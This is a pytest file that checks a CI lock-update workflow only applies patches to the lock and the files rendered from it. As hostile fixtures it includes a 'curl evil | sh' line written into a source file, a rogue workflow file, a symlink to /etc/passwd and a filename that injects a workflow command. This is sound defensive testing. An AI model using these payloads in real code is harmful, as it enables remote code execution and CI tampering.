"""The scheduled lock update's two scripts, run with bash on real git repositories: the job
that runs cannery (and so third-party code: git, uv building tracked branches) makes a patch of
the lock and the files rendered from it; the job with the write token applies a patch only when
every path it touches is one of those, and names any other path it touches otherwise.

The patches a hostile first job could hand on are made here with git itself (a changed file
elsewhere, a new workflow, a rename out of the allowed paths, a name with a newline, a line
added to the list of allowed paths). That list is a file rendered beside the workflow and
committed; both scripts read it from the checked-out commit, never from the working tree."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from cannery.catalog.load import load_catalog
from cannery.errors import InputError
from cannery.lock import Lock
from cannery.plan import plan
from cannery.render.workflow import (
    lock_update_paths,
    lock_update_paths_file,
    lock_update_paths_text,
)
from tests.unit.test_workflow_triggers import _catalog, _render

APPLY = "Apply the patch: the lock and the files rendered from it, nothing else"
MAKE = "The change, as a patch"
LIST = ".github/workflows/cannery-images-lock-update-paths.txt"


@pytest.fixture
def workflow(tmp_path: Path) -> dict[str, Any]:
    (tmp_path / "cat").mkdir()
    doc: dict[str, Any] = yaml.safe_load(
        _render(_catalog(tmp_path / "cat", 'schedule = "0 3 * * *"\n')))
    return doc


def _step(doc: dict[str, Any], job: str, name: str) -> str:
    (run,) = [s["run"] for s in doc["jobs"][job]["steps"] if s.get("name") == name]
    return str(run)


def _git(repo: Path, *args: str, **kw: Any) -> subprocess.CompletedProcess[str]:
    ident = ["-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "core.quotepath=off"]
    return subprocess.run(["git", *ident, *args], cwd=repo, capture_output=True, text=True,
                          check=True, **kw)


def _paths_text(tmp_path: Path) -> str:
    """The list of allowed paths `cannery render` writes for the test catalog."""
    (tmp_path / "listcat").mkdir(parents=True)
    cat = load_catalog(_catalog(tmp_path / "listcat", 'schedule = "0 3 * * *"\n')).catalog
    assert lock_update_paths_file(cat) == LIST
    return lock_update_paths_text(cat, plan(cat, Lock()), "cannery.lock")


def _repo(tmp_path: Path) -> Path:
    """A checkout with the lock, a rendered Dockerfile, the list of the paths a lock update
    may change and a source file, committed."""
    repo = tmp_path / "repo"
    (repo / "dockerfiles").mkdir(parents=True)
    (repo / "src").mkdir()
    (repo / LIST).parent.mkdir(parents=True)
    (repo / LIST).write_text(_paths_text(tmp_path))
    (repo / "cannery.lock").write_text("version = 1\n")
    (repo / "dockerfiles" / "one.Dockerfile").write_text("FROM scratch\n")
    (repo / "src" / "app.py").write_text("print('app')\n")
    _git(repo, "init", "-q", "-b", "main")
    _git(repo, "add", "-A")
    _git(repo, "commit", "-q", "-m", "start")
    return repo


UPDATED_LOCK = "version = 1\n# updated\n"


def _updated_checkout(tmp_path: Path) -> tuple[Path, Path]:
    """A checkout (see _repo) whose lock the update changed, and the runner's temp directory."""
    repo = _repo(tmp_path)
    (repo / "cannery.lock").write_text(UPDATED_LOCK)
    return repo, tmp_path / "runner"


def _patch_of_worktree(repo: Path, runner: Path) -> Path:
    """The worktree's change against HEAD as `git diff --binary` writes it (renames found),
    in the artifact's place; the worktree is then reset, as a fresh checkout is."""
    _git(repo, "add", "-A")
    patch = runner / "lock-update" / "change.patch"
    patch.parent.mkdir(parents=True, exist_ok=True)
    patch.write_text(_git(repo, "diff", "--cached", "--binary", "-M").stdout)
    _git(repo, "reset", "-q", "--hard")
    _git(repo, "clean", "-qfdx")
    return patch


def _run(script: str, repo: Path, runner: Path) -> subprocess.CompletedProcess[str]:
    runner.mkdir(exist_ok=True)
    (runner / "output").touch()
    # GitHub's default shell for `run:` on Linux: bash -e {0}
    return subprocess.run(
        ["bash", "-e", "-c", script], cwd=repo, capture_output=True, text=True, check=False,
        env={**os.environ, "RUNNER_TEMP": str(runner), "GITHUB_OUTPUT": str(runner / "output")},
    )


def _apply(workflow: dict[str, Any], repo: Path, runner: Path) -> subprocess.CompletedProcess[str]:
    """The job with the write token: its step that applies the patch handed on in ``runner``."""
    return _run(_step(workflow, "lock-update-pr", APPLY), repo, runner)


def _status(repo: Path) -> str:
    return _git(repo, "status", "--porcelain").stdout


def test_the_allowed_paths_are_the_lock_and_what_is_rendered_from_it(tmp_path: Path) -> None:
    cat = load_catalog(_catalog(tmp_path, 'schedule = "0 3 * * *"\n')).catalog
    paths = lock_update_paths(cat, plan(cat, Lock()), "cannery.lock")
    assert paths == ["cannery.lock", "dockerfiles/one.Dockerfile", "dockerfiles/two.Dockerfile",
                     "docker-bake.json", "TAGS.md",
                     ".github/workflows/cannery-requirements.txt"]
    assert lock_update_paths_file(cat) == LIST not in paths  # never widens its own boundary
    assert _paths_text(tmp_path / "text") == "".join(f"{p}\n" for p in paths)
    # a rendered file in the list's place would make the list an allowed path: refused
    (tmp_path / "clash").mkdir()
    clash = load_catalog(_catalog(tmp_path / "clash", f'schedule = "0 3 * * *"\nbake = "{LIST}"\n'))
    with pytest.raises(InputError, match=r"^cannery.toml: \[ci\] bake: \.github/workflows/"
                       "cannery-images-lock-update-paths.txt is the lock update's list"):
        lock_update_paths(clash.catalog, plan(clash.catalog, Lock()), "cannery.lock",
                          "cannery.toml")


def test_a_patch_of_the_lock_alone_applies(
    tmp_path: Path, workflow: dict[str, Any]
) -> None:
    repo, runner = _updated_checkout(tmp_path)
    (repo / "dockerfiles" / "one.Dockerfile").write_text("FROM scratch\nLABEL a=b\n")
    _patch_of_worktree(repo, runner)
    done = _apply(workflow, repo, runner)
    assert done.returncode == 0, done.stdout + done.stderr
    staged = _git(repo, "diff", "--cached", "--name-only").stdout.split()
    assert staged == ["cannery.lock", "dockerfiles/one.Dockerfile"]
    assert (repo / "cannery.lock").read_text() == UPDATED_LOCK


@pytest.mark.parametrize(
    ("change", "named"),
    [
        ("modify", ["src/app.py"]),
        ("workflow", [".github/workflows/evil.yml"]),
        # A rename into an allowed path: git's --include alone (by the new name) would apply
        # it, deleting the source file.
        ("rename", ["src/app.py"]),
        # A line added to the list itself: the list is not an allowed path, and the paths
        # are those of the checked-out commit, so src/app.py is refused too.
        ("list", [LIST, "src/app.py"]),
    ],
)
def test_a_patch_touching_any_other_path_is_refused_naming_it(
    tmp_path: Path, workflow: dict[str, Any], change: str, named: list[str]
) -> None:
    repo, runner = _updated_checkout(tmp_path)
    if change == "modify":
        (repo / "src" / "app.py").write_text("import os; os.system('curl evil | sh')\n")
    elif change == "workflow":
        (repo / ".github" / "workflows" / "evil.yml").write_text("on: push\n")
    elif change == "list":
        with (repo / LIST).open("a") as f:
            f.write("src/app.py\n")
        (repo / "src" / "app.py").write_text("import os; os.system('curl evil | sh')\n")
    else:
        (repo / "src" / "app.py").rename(repo / "docker-bake.json")
    patch = _patch_of_worktree(repo, runner)
    if change == "rename":
        assert "rename from src/app.py" in patch.read_text()
    done = _apply(workflow, repo, runner)
    assert done.returncode == 1, done.stdout + done.stderr
    errors = [line for line in done.stdout.splitlines() if line.startswith("::error::")]
    assert [e.split("touches ", 1)[1].split(",", 1)[0] for e in errors] == named
    assert _status(repo) == ""  # nothing applied, the lock included
    assert _git(repo, "diff", "--cached", "--name-only").stdout == ""


def test_a_refused_name_cannot_write_a_workflow_command(
    tmp_path: Path, workflow: dict[str, Any]
) -> None:
    """The name is quoted (printf %q): a newline in it starts no `::command::` line."""
    repo, runner = _repo(tmp_path), tmp_path / "runner"
    (repo / "src" / "x\n::warning::injected").write_text("x\n")
    _patch_of_worktree(repo, runner)
    done = _apply(workflow, repo, runner)
    assert done.returncode == 1
    lines = done.stdout.splitlines()
    assert "::warning::injected" not in lines
    assert lines == ["::error::the lock-update patch touches $'src/x\\n::warning::injected', "
                     "which is not the lock or a file rendered from it; nothing was applied"]


def test_the_first_job_hands_on_only_the_lock_and_rendered_files(
    tmp_path: Path, workflow: dict[str, Any]
) -> None:
    """What a source package's build left in the checkout is named and left out, and so is
    the list of allowed paths, which is read as committed, even when the checkout's copy
    (which anything the job ran could write) names that build output."""
    repo, runner = _updated_checkout(tmp_path)
    (repo / "build").mkdir()
    (repo / "build" / "junk.txt").write_text("left by a build backend\n")
    with (repo / LIST).open("a") as f:
        f.write("build/junk.txt\n")
    done = _run(_step(workflow, "lock-update", MAKE), repo, runner)
    assert done.returncode == 0, done.stderr
    left_out = "::warning::left out of the lock update (not the lock or a file rendered from it): "
    assert f"{left_out}build/junk.txt" in done.stdout.splitlines()
    assert f"{left_out}{LIST}" in done.stdout.splitlines()
    patch = (runner / "lock-update" / "change.patch").read_text()
    assert "diff --git a/cannery.lock b/cannery.lock" in patch and "junk" not in patch
    assert LIST not in patch
    assert (runner / "output").read_text() == "changed=true\n"
    # Nothing changed: no patch, no pull request.
    repo2 = _repo(tmp_path / "again")
    runner2 = tmp_path / "again" / "runner"
    done = _run(_step(workflow, "lock-update", MAKE), repo2, runner2)
    assert done.returncode == 0 and "the lock is unchanged" in done.stdout
    assert (runner2 / "output").read_text() == ""


@pytest.mark.parametrize("kind", ["symlink", "executable"])
def test_an_allowed_path_stays_a_regular_file(
    tmp_path: Path, workflow: dict[str, Any], kind: str
) -> None:
    """A patch that makes the lock a symbolic link (to a file outside the repository, which
    the next reader of the lock would follow) or an executable is refused naming it: the
    allowed paths are regular, non-executable files (mode 100644)."""
    repo, runner = _repo(tmp_path), tmp_path / "runner"
    (repo / "cannery.lock").unlink()
    if kind == "symlink":
        (repo / "cannery.lock").symlink_to("/etc/passwd")
    else:
        (repo / "cannery.lock").write_text("#!/bin/sh\n")
        (repo / "cannery.lock").chmod(0o755)
    _patch_of_worktree(repo, runner)
    done = _run(_step(workflow, "lock-update-pr", APPLY), repo, runner)
    assert done.returncode == 1, done.stdout + done.stderr
    assert "::error::the lock-update patch makes cannery.lock " in done.stdout, done.stdout
    assert _status(repo) == ""
    assert not (repo / "cannery.lock").is_symlink()


def test_the_paths_are_read_from_the_checked_out_commit_not_the_working_tree(
    tmp_path: Path, workflow: dict[str, Any]
) -> None:
    """The list in the working tree names src/app.py (as a render before, or anything that
    wrote the checkout, could leave it), the commit's does not: the patch to it is refused."""
    repo, runner = _updated_checkout(tmp_path)
    (repo / "src" / "app.py").write_text("import os; os.system('curl evil | sh')\n")
    _patch_of_worktree(repo, runner)
    with (repo / LIST).open("a") as f:
        f.write("src/app.py\n")
    done = _apply(workflow, repo, runner)
    assert done.returncode == 1, done.stdout + done.stderr
    assert "::error::the lock-update patch touches src/app.py, " in done.stdout, done.stdout
    assert _status(repo) == f" M {LIST}\n"  # nothing applied: the lock is as committed
    assert (repo / "cannery.lock").read_text() == "version = 1\n"


@pytest.mark.parametrize("head", ["missing", "empty", "blank-line", "itself"])
@pytest.mark.parametrize("job", ["lock-update", "lock-update-pr"])
def test_without_a_committed_list_of_paths_nothing_is_applied(
    tmp_path: Path, workflow: dict[str, Any], head: str, job: str
) -> None:
    """A list missing or empty in the checked-out commit, with a blank line (which would allow
    nothing, or as a pathspec everything) or naming itself fails the step: the first job makes
    no patch, the second applies nothing of a patch of the lock alone."""
    repo, runner = _repo(tmp_path), tmp_path / "runner"
    text = (repo / LIST).read_text()
    if head == "missing":
        _git(repo, "rm", "-q", LIST)
    else:
        (repo / LIST).write_text({"empty": "", "blank-line": "\n" + text,
                                  "itself": text + LIST + "\n"}[head])
        _git(repo, "add", LIST)
    _git(repo, "commit", "-q", "-m", "list")
    (repo / "cannery.lock").write_text(UPDATED_LOCK)
    if job == "lock-update-pr":
        _patch_of_worktree(repo, runner)
        done = _apply(workflow, repo, runner)
    else:
        done = _run(_step(workflow, "lock-update", MAKE), repo, runner)
    assert done.returncode == 1, done.stdout + done.stderr
    (error,) = [line for line in done.stdout.splitlines() if line.startswith("::error::")]
    assert LIST in error and error.endswith(
        "nothing was applied" if job == "lock-update-pr" else "no patch was made"), error
    if job == "lock-update-pr":
        assert _status(repo) == ""
        assert (repo / "cannery.lock").read_text() == "version = 1\n"
    else:
        assert not (runner / "lock-update").exists()
        assert (runner / "output").read_text() == ""


def test_render_writes_the_list_and_check_fails_when_it_is_stale_or_missing(
    tmp_path: Path, cli  # type: ignore[no-untyped-def]
) -> None:
    """`cannery render` writes the list beside the workflow (an example with a schedule);
    `render --check` fails on a line added to it and on its absence, and writes nothing."""
    example = Path(__file__).parents[2] / "examples" / "llamafactory-npu"
    for name in ("cannery.toml", "cannery.lock"):
        shutil.copy(example / name, tmp_path / name)
    catalog = str(tmp_path / "cannery.toml")
    assert cli("render", "--catalog", catalog).code == 0
    listed = tmp_path / ".github" / "workflows" / "docker_npu-lock-update-paths.txt"
    text = listed.read_text()
    assert text.splitlines()[0] == "cannery.lock" and "docker/" in text
    assert text == (example / listed.relative_to(tmp_path)).read_text()  # as committed
    assert cli("render", "--catalog", catalog, "--check").code == 0
    listed.write_text(text + "src/app.py\n")
    for kind in ((), ("workflow",)):
        res = cli("render", *kind, "--catalog", catalog, "--check")
        assert res.code == 1 and str(listed) in res.err and "+src/app.py" in res.err, res.err
    assert listed.read_text() == text + "src/app.py\n"  # --check wrote nothing
    listed.unlink()
    res = cli("render", "--catalog", catalog, "--check")
    assert res.code == 1 and f"{listed}: missing" in res.err
    assert cli("render", "--catalog", catalog).code == 0 and listed.read_text() == text


@pytest.mark.parametrize("key", ["bake", "docs", "requirements"])
def test_a_rendered_file_in_the_lists_place_is_refused_at_its_line(
    tmp_path: Path, key: str, cli  # type: ignore[no-untyped-def]
) -> None:
    """The list would then be an allowed path (a lock update could widen its own boundary):
    every command refuses the catalog right after loading, one line naming file, line and
    key, exit 2, and nothing is written."""
    path = _catalog(tmp_path, f'schedule = "0 3 * * *"\n{key} = "{LIST}"\n')
    line = path.read_text().splitlines().index(f'{key} = "{LIST}"') + 1
    res = cli("render", "--catalog", str(path))
    assert res.code == 2, res.err
    assert f"cannery.toml:{line}: ci.{key}: {LIST} is the lock update's list of the paths" \
        in res.err, res.err
    assert "Traceback" not in res.err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["cannery.toml"]
    assert cli("plan", "--catalog", str(path)).code == 2
    # without a lock update there is no list, and the path is anyone's
    path.write_text(path.read_text().replace('schedule = "0 3 * * *"\n', ""))
    assert cli("plan", "--catalog", str(path)).code == 0
